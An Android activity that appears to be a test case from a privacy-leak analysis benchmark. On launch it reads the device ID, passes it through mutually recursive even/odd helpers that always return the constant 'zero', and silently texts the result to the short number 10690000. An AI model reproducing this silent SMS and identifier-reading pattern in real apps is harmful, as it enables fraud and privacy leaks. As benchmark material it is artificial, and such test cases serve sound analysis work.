package cn.privlens.suite.mutual_recursion_constant;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SmsManager.getDefault().sendTextMessage("10690000", null, even(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId(), 6), null, null);
    }
    private String even(String s, int n) { return n == 0 ? "zero" : odd(s, n - 1); }
    private String odd(String s, int n) { return n == 1 ? even(s, 0) : even(s, n - 1); }
}
